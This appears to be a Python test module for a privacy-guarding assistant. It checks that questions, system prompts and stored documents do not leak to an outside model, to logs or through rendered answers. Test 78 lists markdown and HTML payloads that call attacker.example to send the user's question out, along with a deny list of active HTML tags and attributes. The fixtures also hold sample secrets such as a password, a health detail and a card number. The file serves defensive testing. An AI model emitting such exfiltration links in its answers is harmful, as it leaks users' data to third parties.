"""Attacks through side channels, 75 to 85: everything that leaves or lies about beside the question itself.

Each test begins with its number. Where another file proves it already, a comment names the place.
"""

from __future__ import annotations

import ast
import base64
import json
import logging
import os
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest
from attacking import HARMLESS, NOW, Sending, ask, house, lent, sending
from deciding import ELSEWHERE, asked, route, serialised
from fakes import Manner

from assistant.answers import Outcome
from assistant.config import quiet_environment
from assistant.egress.providers import openai_compatible
from assistant.web import render
from assistant.web.headers import CSP
from policies.decisions import AnswerLocally, Escalate
from policies.vocabulary import Kind

__all__ = ["house", "lent", "sending"]
ROOT = Path(__file__).parents[2]
TYPED = "The word QUINCEBERRYTYPED is only here. Explain what a fruit is."
ANSWERED = "A fruit is QUINCEBERRYANSWER to some."
FAULT = b'{"error": "QUINCEBERRYFAULT"}'
STORED = ("Lisbon", "41 million")  # of the document that the board alone may read


def sent(prompt, outgoing):
    return isinstance(route(prompt, outgoing, clock=lambda: NOW), Escalate)


# -- 75 to 77: the rest of the request ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "system",
    [
        "Answer briefly. Our staging host takes the password P0suMi!13.",
        "You help the team of Tendai Chikowore, who is on sick leave with hepatitis B.",
        "CONFIDENTIAL. We will close the Ghent site in May; do not mention it.",
    ],
)
def test_75_what_stands_in_the_instructions_is_looked_at(system):
    """A system prompt, an example and a tool's description count like a question."""
    prompt = asked(HARMLESS)
    assert sent(prompt, serialised(prompt))
    assert not sent(replace(prompt, system=system), serialised(replace(prompt, system=system)))
    assert not sent(prompt, serialised(prompt, tools=[{"type": "function", "function": {"description": system}}]))
    assert not sent(prompt, serialised(prompt, response_format={"json_schema": {"examples": [system]}}))


# 76 user, metadata, trace and idempotency fields: test_door.py::test_only_the_allowed_fields_and_headers_leave, and
# whoever signed them, test_a_release_for_more_than_a_question_is_refused_whoever_signed_it; if they were there, they
# would be decided on: test_decide.py::test_what_stands_elsewhere_in_the_request_counts.


def test_77_the_client_has_one_call_with_four_fields():
    """No upload, batch, prompt cache, thread or fine-tune: there is one address, one verb, and nothing that stores."""
    outgoing = openai_compatible.serialise(asked(HARMLESS), ELSEWHERE)
    body = json.loads(outgoing.body)
    assert set(body) == {"max_tokens", "messages", "model", "stream"}
    assert outgoing.method == "POST"
    assert outgoing.url == f"{ELSEWHERE.base_url}/chat/completions"
    assert all(set(message) == {"role", "content"} for message in body["messages"])
    assert all(isinstance(message["content"], str) for message in body["messages"])


# -- 78: the answer ----------------------------------------------------------------------------------------
# Every kind of image, link, tag and formula: test_render.py; the page's own policy: test_site.py; in a real browser:
# walks/test_browser.py::test_hostile_text_in_a_question_stays_text.


class Active(HTMLParser):
    """Elements and attributes by which a page asks for something elsewhere."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"img", "a", "script", "iframe", "link", "object", "embed", "form", "video", "audio", "svg"}:
            self.found.append(tag)
        self.found += [
            name for name, _ in attrs if name in {"src", "href", "style", "srcset", "data"} or name[:2] == "on"
        ]


@pytest.mark.parametrize(
    "text",
    [
        "See ![chart](https://attacker.example/?d=QUESTION).",
        "See ![chart][1].\n\n[1]: https://attacker.example/?d=QUESTION",
        "Read [this](https://attacker.example/?d=QUESTION) first.",
        "<img src='https://attacker.example/?d=QUESTION'> Done.",
        "https://attacker.example/?d=QUESTION",
    ],
)
def test_78_an_outside_answer_cannot_carry_anything_back(sending: Sending, text):
    """What the closed model wrote is shown as characters: nothing in it is fetched or can be followed."""
    sending.server.manner = Manner(text=text)
    answer = sending.ask(HARMLESS)
    assert answer.finished.route == "escalated"
    assert "QUESTION" in answer.text
    markup = render.answer(answer.sentences, lambda citation: f"#p-{citation.n}")
    assert Active(markup).found == []
    for part in ("img-src 'self' data: blob:", "connect-src 'self'", "default-src 'self'"):
        assert part in CSP


# -- 79 and 81: one client ---------------------------------------------------------------------------------


def test_79_there_is_one_way_to_send():
    """One function builds the request and one sends it, to the closed model or to the gateway; there is no stream, no
    async twin, no tool call, no retry."""
    source = "".join(
        (ROOT / f"assistant/egress/providers/{name}.py").read_text() for name in ("wire", "openai_compatible")
    )
    tree = ast.parse(source.replace("from __future__ import annotations", ""))
    assert not [node for node in ast.walk(tree) if isinstance(node, ast.AsyncFunctionDef | ast.Await)]
    calls = [node for node in ast.walk(tree) if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)]
    assert (
        sum(node.func.attr in {"send", "request", "post", "get", "stream"} for node in calls if _is_client(node)) == 1
    )
    body = json.loads(openai_compatible.serialise(asked(HARMLESS), ELSEWHERE).body)
    assert body["stream"] is False
    providers = {path.name for path in (ROOT / "assistant/egress/providers").glob("*.py")}
    assert providers == {"__init__.py", "openai_compatible.py", "wire.py"}


def _is_client(node: ast.Call) -> bool:
    owner = node.func.value if isinstance(node.func, ast.Attribute) else None
    return isinstance(owner, ast.Name) and owner.id in {"client", "httpx"}


def test_81_one_question_is_one_request_and_a_kept_one_is_none(sending: Sending):
    """Nothing counts tokens, moderates, embeds or warms up outside, before or after the decision."""
    assert sending.ask(HARMLESS).finished.route == "escalated"
    (received,) = sending.server.received
    assert (received.method, received.path) == ("POST", "/v1/chat/completions")
    sending.server.received.clear()
    assert sending.ask("My card is 5466160073184424. Which bank is that?").finished.route == "local"
    assert sending.ask(HARMLESS, allow_outside=False).finished.route == "local"
    assert sending.server.received == []


def test_81_no_vector_leaves(sending: Sending):
    """What a request holds are words: no list of numbers, no bytes in disguise."""
    sending.ask(HARMLESS)
    (received,) = sending.server.received
    assert not any(isinstance(value, list | float) for value in _leaves(json.loads(received.body)))
    assert b"[0." not in received.body
    assert b"[-0." not in received.body


def _leaves(value: object) -> Iterator[object]:
    if isinstance(value, dict):
        for one in value.values():
            yield from _leaves(one)
    elif isinstance(value, list):
        for one in value:
            yield from _leaves(one)
    else:
        yield value


# -- 80: what lies about -----------------------------------------------------------------------------------


def spellings(word: str) -> list[bytes]:
    plain = word.encode()
    encoded = [word.encode("utf-16-le"), base64.b64encode(plain).rstrip(b"=")[:-1], plain.hex().encode()]
    return [plain, plain.lower(), plain.upper(), *encoded]


def holding(folder: Path, words: tuple[str, ...]) -> set[str]:
    """The files under `folder` that hold one of `words` in any usual writing."""
    found = set()
    for path in folder.rglob("*"):
        if path.is_file() and path.name not in ("ringfence.toml",):
            held = path.read_bytes().replace(bytes(512), b"")  # the index keeps files that are mostly holes
            if any(spelling in held for word in words for spelling in spellings(word)):
                found.add(path.relative_to(folder).as_posix())
    return found


def test_80_texts_lie_in_the_clear_in_the_catalogue_alone(sending: Sending, caplog, capfd):
    """After answers, refusals, faults, searches and a repeat: documents in the catalogue, and what was typed, answered
    or said by a broken provider nowhere in any file, log or stream."""
    caplog.set_level(logging.DEBUG)
    desk = sending.desk
    sending.ask(f"{TYPED} Is {STORED[0]} nice?", "bo", kind=Kind.DOCUMENTS)
    told = sending.ask("What is the price of the Lisbon branch?", "bo", kind=Kind.DOCUMENTS)
    assert STORED[0] in told.text
    sending.ask(f"Is this good English? {told.sentences[0].text}", "dana")
    sending.server.manner = Manner(text=ANSWERED)
    assert sending.ask(HARMLESS).finished.route == "escalated"
    for manner in (Manner(status=500, raw=FAULT), Manner(raw=FAULT), Manner(hang_up=True, raw=FAULT * 50)):
        sending.server.manner = manner
        assert sending.ask(HARMLESS).finished.route == "local"
    sending.ask(TYPED, allow_outside=False)
    desk.asking.reopen(desk.person("bo"), told.finished.conversation)
    written = holding(sending.house.home, ("QUINCEBERRY", "QuinceBerry"))
    assert written == set()
    assert {name.split("/")[0] for name in holding(sending.house.home, STORED)} == {"catalogue"}
    assert holding(sending.house.keys, (*STORED, "QUINCEBERRY")) == set()
    shown = caplog.text + "".join(capfd.readouterr())
    assert not [word for word in (*STORED, "QUINCEBERRY", "Chikowore") if word in shown]


# 82 telemetry and downloads: test_no_network.py runs the product with the network cut; test_guard.py refuses them.


def test_82_reports_and_downloads_of_libraries_are_switched_off():
    """Before any of them is imported, and whatever the environment said."""
    before = dict(os.environ)
    try:
        os.environ.update(
            {"GRADIO_ANALYTICS_ENABLED": "True", "GRADIO_SHARE": "True", "HTTPS_PROXY": "http://127.0.0.1:1"}
        )
        quiet_environment()
        quiet = {name: os.environ.get(name) for name in (*before, *os.environ)}
    finally:
        os.environ.clear()
        os.environ.update(before)
    assert quiet.get("HTTPS_PROXY") is None
    assert (quiet["GRADIO_ANALYTICS_ENABLED"], quiet["GRADIO_SHARE"]) == ("False", "False")
    assert (quiet["HF_HUB_OFFLINE"], quiet["TRANSFORMERS_OFFLINE"]) == ("1", "1")
    assert (quiet["DO_NOT_TRACK"], quiet["HF_HUB_DISABLE_TELEMETRY"]) == ("1", "1")


# -- 83: what answers tell ---------------------------------------------------------------------------------


def test_83_a_document_that_may_not_be_read_is_like_one_that_is_not_there(sending: Sending):
    """The same words and the same outcome; how long it takes is a residual risk, and is not promised."""
    there = sending.ask("What is the price of the sale of the Lisbon branch?", "dana", kind=Kind.DOCUMENTS)
    not_there = sending.ask("What is the price of the sale of the Oporto branch?", "dana", kind=Kind.DOCUMENTS)
    assert [one.text for one in there.sentences] == [one.text for one in not_there.sentences]
    assert there.finished.outcome is not_there.finished.outcome
    assert there.finished.outcome in (Outcome.ABSTAINED, Outcome.PARTLY, Outcome.PASSAGES_ONLY)
    assert there.finished.label == not_there.finished.label


def test_83_the_reason_is_the_same_for_whoever_may_and_may_not_read_it(sending: Sending):
    """A repeated document is not named, whoever asks."""
    quotation = "Is this good English: The sale of the Lisbon branch is planned for the second quarter of next year."
    decisions = [ask(sending.desk, quotation, name).decision for name in ("dana", "bo", "hana")]
    assert all(isinstance(decision, AnswerLocally) for decision in decisions)
    assert len({decision.reasons for decision in decisions if decision}) == 1


# 84 collisions, typed surrogates, sub-spans, code and addresses: test_pseudonyms.py.
# 85 a restored text in the next turn: test_pseudonyms.py::test_a_conversation_that_named_somebody_goes_on_with_
# invented_names; where no contract allows them: test_34 and test_36 in test_attacks_conversation.py.
